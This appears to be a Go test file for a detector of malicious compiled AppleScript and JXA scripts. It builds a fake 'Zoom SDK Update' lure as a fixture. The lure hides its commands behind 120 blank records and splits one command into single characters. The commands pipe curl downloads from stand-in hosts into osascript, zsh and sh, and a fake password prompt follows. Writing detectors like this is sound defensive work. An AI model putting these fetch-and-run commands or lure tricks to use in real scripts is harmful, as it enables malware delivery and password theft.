package script

import (
	"encoding/binary"
	"strings"
	"testing"
	"unicode/utf16"
)

// compiledFile builds the records of a compiled AppleScript that matter here.
type compiledFile struct {
	b    []byte
	next uint16
}

func (c *compiledFile) head(kind byte, size int) {
	c.next++
	c.b = append(c.b, kind)
	c.b = binary.BigEndian.AppendUint16(c.b, c.next)
	c.b = binary.BigEndian.AppendUint16(c.b, uint16(size))
}

func (c *compiledFile) text(s string) {
	units := utf16.Encode([]rune(s))
	c.head(0x0e, 1)
	c.b = append(c.b, 0xb1, 0, 1)
	c.head(rawRecord, 2*len(units))
	for _, u := range units {
		c.b = binary.BigEndian.AppendUint16(c.b, u)
	}
}

func (c *compiledFile) comment(s string) {
	c.head(romanRecord, len(s)+2)
	c.b = binary.BigEndian.AppendUint16(c.b, uint16(len(s)))
	c.b = append(c.b, s...)
	c.b = append(c.b, 0, 0, 0, 0)
	c.text(s)
}

func (c *compiledFile) blanks(n int) {
	for range n {
		c.next++
		at := len(c.b)
		c.b = append(c.b, nodeRecord)
		c.b = binary.BigEndian.AppendUint16(c.b, c.next)
		c.b = append(c.b, blankNode...)
		for len(c.b) < at+blankSize {
			c.b = append(c.b, 0)
		}
	}
}

func (c *compiledFile) event(code string) {
	c.head(0x0a, 24)
	c.b = append(c.b, 0x2e)
	c.b = append(c.b, code...)
	c.b = append(c.b, make([]byte, 16)...)
}

func compiledLure() []byte {
	c := &compiledFile{b: []byte("FasdUAS 1.101.10")}
	c.comment(" Zoom SDK Update: this version is deprecated")
	c.blanks(120)
	c.event("sysoexec")
	c.text("curl -s -k https://a.invalid/x | osascript")
	for _, r := range "curl -s https://b.invalid/y | zsh" {
		c.text(string(r))
	}
	c.event("sysodlog")
	c.text("Enter the password to go on")
	c.b = append(c.b, "htxtascr\x00\x01\x00\x0d\xfa\xde\xde\xad"...)
	return c.b
}

func TestCompiled(t *testing.T) {
	s, user := Analyse("Zoom SDK Update.scpt", compiledLure())
	if s == nil {
		t.Fatal("not taken for a script")
	}
	want{language: "applescript-compiled", tool: "curl", host: "a.invalid", to: "pipe", runBy: "osascript", insecure: true, traits: "password-prompt",
		pretexts: "deprecated password sdk update", blank: 120, after: true, concat: 20}.check(t, s)
	want{tool: "curl", host: "b.invalid", to: "pipe", runBy: "zsh"}.check(t, s)
	if !strings.Contains(user, "Zoom SDK Update") || !strings.Contains(user, "Enter the password") {
		t.Errorf("user text %q", user)
	}
	if t.Failed() {
		t.Logf("%+v", *s)
	}
}

func TestCompiledAutomation(t *testing.T) {
	src := "ObjC.import('stdlib'); $.system('curl -s https://c.invalid/z | sh')"
	s, _ := Analyse("x.scpt", []byte("JsOsaDAS1.001.00bplist00\x5f\x10"+string(rune(len(src)))+src))
	if s == nil || s.Language != "jxa" {
		t.Fatalf("%+v", s)
	}
	want{tool: "curl", host: "c.invalid", to: "pipe", runBy: "sh"}.check(t, s)
}
